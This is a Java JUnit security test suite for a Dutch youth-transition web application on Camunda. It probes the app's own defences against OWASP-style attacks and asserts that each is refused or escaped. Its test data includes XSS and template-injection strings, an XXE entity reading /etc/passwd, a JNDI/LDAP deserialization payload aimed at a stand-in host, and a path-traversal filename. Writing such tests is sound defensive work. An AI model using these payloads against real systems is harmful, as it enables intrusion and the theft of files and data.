package nl.transitieroute.web;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import nl.transitieroute.WebTest;
import nl.transitieroute.dossier.Dossier;
import nl.transitieroute.formulier.Formulier;
import nl.transitieroute.jongere.Jongeren;
import nl.transitieroute.organisatie.Demo;
import nl.transitieroute.route.NieuweRoute;
import nl.transitieroute.route.Route;
import nl.transitieroute.route.Routes;
import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.web.util.HtmlUtils;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The list of the OWASP top ten, tried by somebody who means harm: without an account,
 * with a stolen cookie, or as a colleague who wants more than he may.
 */
@WebTest
class AanvalTest {

	static final String SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>[klik](javascript:alert(3))"
			+ "{{7*7}}${7*7}#{7*7}";

	private static final String ENGINE = "/camunda/api/engine/engine/default";

	private static final int TE_GROOT = 1_500_000;

	private static final int TE_GROOTE_UPLOAD = 22_000_000;

	@LocalServerPort
	int poort;

	@Autowired
	RepositoryService repositoryService;

	@Autowired
	RuntimeService runtimeService;

	@Autowired
	TaskService taskService;

	@Autowired
	Jongeren jongeren;

	@Autowired
	Routes routes;

	@Autowired
	Dossier dossier;

	@Autowired
	JdbcClient jdbc;

	private String levering;

	private Route route;

	private String taak;

	@BeforeEach
	void aRouteWithATaskOfTheMentor() {
		this.levering = this.repositoryService.createDeployment()
			.addClasspathResource("proef/proef.bpmn")
			.addClasspathResource("proef/proef.form")
			.deploy()
			.getId();
		long jongere = this.jongeren
			.voegToe("school-rijn-ijssel", null, "Aanval", "Doelwit", LocalDate.of(2008, 3, 4), "0202")
			.id();
		this.route = this.routes.begin(new NieuweRoute(jongere, "school-rijn-ijssel", "0202", "25656", "Kok", "2",
				"BOL", LocalDate.now().plusYears(1), "p.mentor"));
		this.runtimeService.startProcessInstanceByKey("proef", this.route.nummer(),
				Map.of("routeNummer", this.route.nummer(), "jongere", "Aanval Doelwit", "fase", "Signalering"));
		this.taak = this.taskService.createTaskQuery()
			.processInstanceBusinessKey(this.route.nummer())
			.singleResult()
			.getId();
	}

	@AfterEach
	void ruimOp() {
		this.jdbc.sql("delete from aanmeldpoging").update();
		this.repositoryService.deleteDeployment(this.levering, true);
		this.routes.sluitAf(this.route.nummer(), "test");
	}

	@Test
	void onePasswordTriedOnManyNamesClosesTheAddress() {
		Bezoeker aanvaller = new Bezoeker(this.poort);
		for (int i = 0; i < 100; i++) {
			assertThat(aanvaller.logIn("medewerker" + i, "Welkom2026!").statusCode()).isEqualTo(302);
		}

		HttpResponse<String> dicht = aanvaller.logIn("p.mentor", "Welkom2026!");

		assertThat(dicht.statusCode()).isEqualTo(429);
		assertThat(dicht.headers().firstValue("Retry-After")).isPresent();
	}

	@Test
	void guessingThroughTheApiIsClosedJustTheSame() {
		Bezoeker aanvaller = new Bezoeker(this.poort);
		String pad = "/api/routes/" + this.route.nummer();
		for (int i = 0; i < 5; i++) {
			assertThat(aanvaller.haalApi("j.mentor", "geraden" + i, pad).statusCode()).isEqualTo(401);
		}

		HttpResponse<String> dicht = aanvaller.haalApi("j.mentor", "geraden", pad);

		assertThat(dicht.statusCode()).isEqualTo(429);
		assertThat(dicht.body()).contains("te vaak");
		assertThat(aanvaller.logIn("j.mentor", Demo.WACHTWOORD).statusCode()).isEqualTo(429);
	}

	@Test
	void aSessionThatTheAttackerChoseIsWorthNothingAfterTheSignIn() throws Exception {
		HttpResponse<String> eerst = haal("/inloggen", null);
		String vooraf = koekje(eerst);
		HttpResponse<String> verzonnen = haal("/inloggen", "JSESSIONID=" + "A".repeat(32));
		assertThat(koekje(verzonnen)).isNotNull().doesNotContain("AAAA");

		Bezoeker slachtoffer = new Bezoeker(this.poort);
		slachtoffer.haal("/inloggen");
		String voorHetInloggen = slachtoffer.koekje("JSESSIONID");
		slachtoffer.logIn("p.mentor", Demo.WACHTWOORD);

		assertThat(slachtoffer.koekje("JSESSIONID")).isNotEqualTo(voorHetInloggen);
		assertThat(haal("/routes", "JSESSIONID=" + voorHetInloggen).statusCode()).isEqualTo(302);
		assertThat(vooraf).isNotNull();
	}

	@Test
	void noScriptAndNoOtherSiteReadsTheCookie() throws Exception {
		assertThat(haal("/inloggen", null).headers().firstValue("Set-Cookie"))
			.hasValueSatisfying((koekje) -> assertThat(koekje).contains("HttpOnly").contains("SameSite=Lax"));
	}

	@Test
	void theSessionNeverStandsInAnAddress() {
		assertThat(new Bezoeker(this.poort).haal("/inloggen").body()).doesNotContain("jsessionid");
		assertThat(new Bezoeker(this.poort).haal("/routes;jsessionid=" + "A".repeat(32)).statusCode()).isEqualTo(400);
	}

	@ParameterizedTest
	@ValueSource(strings = { "/inloggen", "/camunda/app/tasklist/default/", "/routes", "/api/routes/x" })
	void everyAnswerTellsTheBrowserToBeCareful(String pad) {
		var koppen = Bezoeker.ingelogd(this.poort, "p.mentor").haal(pad).headers();

		assertThat(koppen.firstValue("X-Content-Type-Options")).contains("nosniff");
		assertThat(koppen.firstValue("X-Frame-Options")).isPresent();
		assertThat(koppen.firstValue("Referrer-Policy")).isPresent();
		assertThat(koppen.firstValue("Cache-Control")).hasValueSatisfying((c) -> assertThat(c).contains("no-store"));
		if (!pad.equals("/inloggen")) {
			assertThat(koppen.firstValue("Content-Security-Policy")).isPresent();
		}
		assertThat(koppen.firstValue("Access-Control-Allow-Origin")).isEmpty();
		assertThat(koppen.firstValue("Server")).isEmpty();
	}

	@Test
	void anotherSiteGetsNoLeaveToCallTheApi() throws Exception {
		HttpResponse<String> vooraf = stuur("OPTIONS", "/api/routes/x", null, "Origin", "https://kwaad.example",
				"Access-Control-Request-Method", "POST");

		assertThat(vooraf.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
		assertThat(vooraf.statusCode()).isIn(401, 403);
	}

	@ParameterizedTest
	@ValueSource(strings = { "/inloggen?x=%0d%0aSet-Cookie:%20kwaad=1", "/geen-toegang?reden=%0d%0aX-Kwaad:%201&via=x",
			"/inloggen/via/x%0d%0aX-Kwaad:1", "/inloggen/terug/school%0d%0aX-Kwaad:1?code=a&state=b" })
	void aLineBreakInAnAddressBecomesNoHeader(String pad) throws Exception {
		HttpResponse<String> antwoord = haal(pad, null);

		assertThat(antwoord.headers().firstValue("X-Kwaad")).isEmpty();
		assertThat(antwoord.headers().allValues("Set-Cookie")).noneMatch((koekje) -> koekje.startsWith("kwaad"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "/inloggen?redirect=https://kwaad.example", "/inloggen?continue=https://kwaad.example",
			"/inloggen?next=//kwaad.example" })
	void theSignInLeadsToNobodyElse(String pad) {
		Bezoeker bezoeker = new Bezoeker(this.poort);
		HttpResponse<String> antwoord = bezoeker.stuurFormulier(pad, pad, "gebruikersnaam", "p.mentor", "wachtwoord",
				Demo.WACHTWOORD);

		assertThat(antwoord.headers().firstValue("Location"))
			.hasValueSatisfying((waarheen) -> assertThat(waarheen).doesNotContain("kwaad"));
		assertThat(new Bezoeker(this.poort).haal("//kwaad.example/routes").statusCode()).isEqualTo(400);
	}

	@ParameterizedTest
	@CsvSource({ "PUT,/routes", "DELETE,/beheer/accounts", "PATCH,/wachtwoord", "TRACE,/routes", "JEFF,/routes",
			"HEAD,/beheer/accounts", "OPTIONS,/beheer/accounts", "TRACK,/inloggen" })
	void aVerbThatWeDoNotKnowOpensNothing(String werkwoord, String pad) {
		assertThat(Bezoeker.ingelogd(this.poort, "p.mentor").stuur(werkwoord, pad, "").statusCode()).isIn(400, 403, 405,
				501);
	}

	@Test
	void noHeaderAndNoFieldTurnsOneVerbIntoAnother() throws Exception {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");
		String pad = ENGINE + "/task/" + this.taak;
		for (String kop : List.of("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")) {
			HttpResponse<String> antwoord = stuur("POST", pad, "{}", "Cookie", mentor.koekjes(), "X-XSRF-TOKEN",
					mentor.koekje("XSRF-TOKEN"), "Content-Type", "application/json", kop, "DELETE");
			assertThat(antwoord.statusCode()).isEqualTo(403);
		}
		assertThat(mentor.stuurFormulier("/wachtwoord", "/routes", "_method", "DELETE").statusCode()).isEqualTo(405);
		assertThat(this.taskService.createTaskQuery().taskId(this.taak).count()).isOne();
	}

	@ParameterizedTest
	@ValueSource(strings = { "/beheer/accounts/", "/beheer//accounts", "/beheer/accounts;x=1", "/Beheer/Accounts",
			"/beheer/./accounts", "/x/../beheer/accounts", "/beheer/%2e/accounts", "/beheer%2faccounts",
			"/beheer/accounts%00", "/beheer/accounts.html", "/beheer/%61ccounts", "/beheer\\accounts" })
	void noSpellingOfThePathOpensThePageOfBeheer(String pad) {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");

		HttpResponse<String> antwoord = mentor.haal(pad.replace("\\", "%5c"));

		assertThat(antwoord.statusCode()).isIn(400, 403, 404);
		assertThat(antwoord.body()).doesNotContain("eenmalig");
	}

	@Test
	void whatIsTooBigIsRefusedInDutchOnEveryPath() throws Exception {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");
		String groot = "x".repeat(TE_GROOT);
		String json = "{\"reden\":\"" + groot + "\"}";

		HttpResponse<String> pagina = mentor.stuurFormulier("/wachtwoord",
				"/dossier/" + this.route.nummer() + "/uitval", "reden", groot);
		assertThat(pagina.statusCode()).isEqualTo(413);
		assertThat(pagina.body()).contains("Dit is te groot");

		HttpResponse<String> api = mentor.stuurApi("p.mentor", "/api/routes/" + this.route.nummer() + "/uitval", json);
		assertThat(api.statusCode()).isEqualTo(413);
		assertThat(api.body()).contains("te groot");

		HttpResponse<String> tasklist = mentor.stuur("POST", ENGINE + "/task/" + this.taak + "/submit-form", json);
		assertThat(tasklist.statusCode()).isEqualTo(413);
		assertThat(tasklist.body()).contains("te groot");

		HttpResponse<String> upload = mentor.stuurBestand("/wachtwoord", "bestand", "x.bin",
				new byte[TE_GROOTE_UPLOAD]);
		assertThat(upload.statusCode()).isEqualTo(413);

		HttpResponse<String> zonderLengte = stuurStroom("/api/routes/" + this.route.nummer() + "/uitval", json);
		assertThat(zonderLengte.statusCode()).isEqualTo(413);
		assertThat(this.taskService.createTaskQuery().taskId(this.taak).count()).isOne();
	}

	@ParameterizedTest
	@ValueSource(strings = { "{\"assigneeExpression\":\"${1}\"}", "{\"ASSIGNEEEXPRESSION\":\"${1}\"}",
			"{\"dueBeforeExpression\":\"${now()}\"}", "{\"assignee\\u0045xpression\":\"${1}\"}",
			"{\"orQueries\":[{\"taskCandidateGroupExpression\":\"${1}\"}]}",
			"{\"orQueries\":[{\"nameExpression\":\"${1}\"}],\"orQueries\":[]}", "{\"nameLikeExpression\":", "null}" })
	void aQuestionOfATaskListHoldsNoCode(String vraag) {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");
		String filter = filter(mentor);

		for (String pad : List.of("/filter/" + filter + "/list", "/filter/" + filter + "/count",
				"/filter/" + filter + "/singleResult", "/task", "/task/count")) {
			HttpResponse<String> antwoord = mentor.stuur("POST", ENGINE + pad, vraag);
			assertThat(antwoord.statusCode()).as(pad).isEqualTo(400);
			assertThat(antwoord.body()).contains("Zoek op een gewone waarde");
		}
	}

	@Test
	void aQuestionInOtherCharactersIsNotRead() throws Exception {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");

		HttpResponse<String> antwoord = stuur("POST", ENGINE + "/task", "{}", "Cookie", mentor.koekjes(),
				"X-XSRF-TOKEN", mentor.koekje("XSRF-TOKEN"), "Content-Type", "application/json; charset=IBM037");

		assertThat(antwoord.statusCode()).isEqualTo(400);
	}

	@Test
	void anExpressionInAnAddressIsNotRun() {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");

		HttpResponse<String> antwoord = mentor
			.haal(ENGINE + "/task?assigneeExpression=%24%7B%27p.%27.concat(%27mentor%27)%7D");

		assertThat(antwoord.body()).doesNotContain(this.taak);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|',
			value = { "PUT | /filter/{f} | {\"query\":{\"assigneeExpression\":\"${1}\"}}", "DELETE | /filter/{f} | ",
					"POST | /filter/create | {\"resourceType\":\"Task\",\"name\":\"x\",\"query\":{}}",
					"POST | /filter | {}" })
	void aCoachMakesNoLists(String werkwoord, String pad, String bericht) {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");

		assertThat(
				mentor.stuur(werkwoord, ENGINE + pad.replace("{f}", filter(mentor)), (bericht != null) ? bericht : "")
					.statusCode())
			.isEqualTo(403);
	}

	@ParameterizedTest
	@ValueSource(strings = {
			"{\"value\":\"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==\",\"type\":\"Object\",\"valueInfo\":{\"objectTypeName\":\"java.util.HashMap\",\"serializationDataFormat\":\"application/x-java-serialized-object\"}}",
			"{\"value\":\"{\\\"dataSourceName\\\":\\\"ldap://kwaad.example/x\\\",\\\"autoCommit\\\":true}\",\"type\":\"Object\",\"valueInfo\":{\"objectTypeName\":\"com.sun.rowset.JdbcRowSetImpl\",\"serializationDataFormat\":\"application/json\"}}",
			"{\"value\":\"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>\",\"type\":\"Xml\"}",
			"{\"value\":\"aGFsbG8=\",\"type\":\"File\",\"valueInfo\":{\"filename\":\"../../kwaad.sh\"}}",
			"{\"value\":\"aGFsbG8=\",\"type\":\"Bytes\"}", "{\"value\":{\"a\":[1]}}", "{\"value\":[\"verder\"]}" })
	void aFormTakesTextAndNumbersAndNoObjects(String waarde) {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");

		HttpResponse<String> antwoord = mentor.stuur("POST", ENGINE + "/task/" + this.taak + "/submit-form",
				"{\"variables\":{\"keuze\":" + waarde + ",\"dag\":{\"value\":\"2027-05-01\"}}}");

		assertThat(antwoord.statusCode()).isBetween(400, 500);
		assertThat(antwoord.body()).doesNotContain("root:", "ENGINE-", "Exception");
		assertThat(this.taskService.createTaskQuery().taskId(this.taak).count()).isOne();
		assertThat(this.taskService.getVariable(this.taak, "keuze")).isNull();
	}

	@Test
	void theNameOfAFieldForgesNoLineInALog() {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");

		HttpResponse<String> antwoord = mentor.stuur("POST", ENGINE + "/task/" + this.taak + "/submit-form",
				"{\"variables\":{\"x\\r\\nWARN alles is gestolen\":{\"value\":\"x\"}}}");

		assertThat(antwoord.statusCode()).isEqualTo(422);
		assertThat(antwoord.body()).contains("'x??WARN?alles?is?gestolen'");
	}

	/**
	 * What the browser would not let somebody type, typed into every text field there is.
	 */
	@Test
	void aScriptInEveryTextFieldOfEveryFormIsShownAndNeverRun() throws Exception {
		int velden = 0;
		try (Stream<Path> formulieren = Files.list(Path.of("forms"))) {
			for (Path bestand : formulieren.filter((pad) -> pad.toString().endsWith(".form")).toList()) {
				Formulier formulier = Formulier.lees(Files.readAllBytes(bestand));
				Map<String, String> antwoorden = new LinkedHashMap<>();
				formulier.velden()
					.stream()
					.filter((veld) -> List.of("textfield", "textarea").contains(veld.type()))
					.forEach((veld) -> antwoorden.put(veld.label() + " " + veld.sleutel(), SCRIPT + veld.sleutel()));
				velden += antwoorden.size();
				this.dossier.noteer(this.route.nummer(), "formulier", SCRIPT + bestand.getFileName(), antwoorden);
			}
		}
		assertThat(velden).isGreaterThan(100);

		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");
		String pagina = mentor.haal("/dossier/" + this.route.nummer()).body();
		assertThat(Pattern.compile(Pattern.quote(HtmlUtils.htmlEscape(SCRIPT))).matcher(pagina).results().count())
			.isGreaterThanOrEqualTo(velden);
		assertThat(pagina).doesNotContain("<script", "<img src=x", "href=\"javascript", ">49<");

		HttpResponse<String> api = mentor.haalApi("p.mentor", Demo.WACHTWOORD, "/api/routes/" + this.route.nummer());
		assertThat(api.headers().firstValue("Content-Type"))
			.hasValueSatisfying((soort) -> assertThat(soort).startsWith("application/json"));
		assertThat(api.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
	}

	@Test
	void aScriptThatCameInThroughTheTaskListStaysText() {
		Bezoeker mentor = Bezoeker.ingelogd(this.poort, "p.mentor");
		String json = SCRIPT.replace("\"", "\\\"");

		HttpResponse<String> antwoord = mentor.stuur("POST", ENGINE + "/task/" + this.taak + "/submit-form",
				"{\"variables\":{\"keuze\":{\"value\":\"stop\"},\"reden\":{\"value\":\"" + json
						+ "\"},\"dag\":{\"value\":\"2027-05-01\"}}}");

		assertThat(antwoord.statusCode()).isEqualTo(204);
		assertThat(mentor.haal("/dossier/" + this.route.nummer()).body()).contains(HtmlUtils.htmlEscape(SCRIPT))
			.doesNotContain("<script", "<img src=x");
	}

	private String filter(Bezoeker wie) {
		String lijsten = wie.haal(ENGINE + "/filter?resourceType=Task").body();
		int begin = lijsten.indexOf("\"id\":\"") + 6;
		return lijsten.substring(begin, lijsten.indexOf('"', begin));
	}

	private static String koekje(HttpResponse<String> antwoord) {
		return antwoord.headers().firstValue("Set-Cookie").orElse(null);
	}

	private HttpResponse<String> haal(String pad, String koekje) throws IOException, InterruptedException {
		return (koekje != null) ? stuur("GET", pad, null, "Cookie", koekje) : stuur("GET", pad, null);
	}

	private HttpResponse<String> stuur(String werkwoord, String pad, String bericht, String... koppen)
			throws IOException, InterruptedException {
		HttpRequest.Builder verzoek = HttpRequest.newBuilder(URI.create("http://localhost:" + this.poort + pad))
			.method(werkwoord, (bericht != null) ? BodyPublishers.ofString(bericht) : BodyPublishers.noBody());
		if (koppen.length > 0) {
			verzoek.headers(koppen);
		}
		return HttpClient.newHttpClient().send(verzoek.build(), BodyHandlers.ofString());
	}

	/** In pieces, without saying how long it will be. */
	private HttpResponse<String> stuurStroom(String pad, String json) throws IOException, InterruptedException {
		HttpRequest verzoek = HttpRequest.newBuilder(URI.create("http://localhost:" + this.poort + pad))
			.header("Authorization",
					"Basic " + Base64.getEncoder().encodeToString(("p.mentor:" + Demo.WACHTWOORD).getBytes()))
			.header("Content-Type", "application/json")
			.POST(BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(json.getBytes())))
			.build();
		return HttpClient.newHttpClient().send(verzoek, BodyHandlers.ofString());
	}

}
